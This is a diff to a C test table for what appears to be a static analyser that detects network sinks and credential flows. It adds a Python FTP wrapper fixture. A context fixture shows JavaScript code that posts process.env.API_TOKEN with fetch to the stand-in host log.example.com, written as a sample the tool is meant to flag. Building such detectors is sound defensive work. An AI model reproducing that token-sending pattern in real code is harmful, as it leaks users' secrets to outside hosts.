@@ -2033,6 +2033,13 @@ static const struct resolve_case wrapsink_cases[] = {
 			"  return fetch('https://log.example.com/in', { method: 'POST', body: msg });\n}\n"
 			"log('a');\nlog('b');\nlog('c');\nlog('d');\nlog('e');\nlog(process.env.API_TOKEN);\n"),
 	 "log.example.com", K(EK_LITERAL), NULL, "fetch", "credential-flow", "log.example.com", 2, NULL, ANY_SEV, NULL},
+	/* a sink whose destination is in no argument (ftplib.FTP()) inside a wrapper: crashed
+	 * (a null node walked) on 8b05331, this branch's own earlier commit; passed on c35c45b */
+	{"wrapper: a destination-less constructor in a wrapper its callers call",
+	 JS("main.py", "import ftplib\nfrom contextlib import contextmanager\n\n@contextmanager\ndef session(host):\n"
+		       "    ftp = ftplib.FTP()\n    ftp.connect(host, 21)\n    yield ftp\n\n"
+		       "def up():\n    with session('ftp.example.com') as f:\n        pass\n"),
+	 "ftp.example.com", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
 	{"wrapper: the whole environment as a child process's env option is no credential flow",
 	 JS("index.js", "const { McpServer } = require('@modelcontextprotocol/sdk/server/mcp.js');\n"
 			"const { exec } = require('child_process');\n"
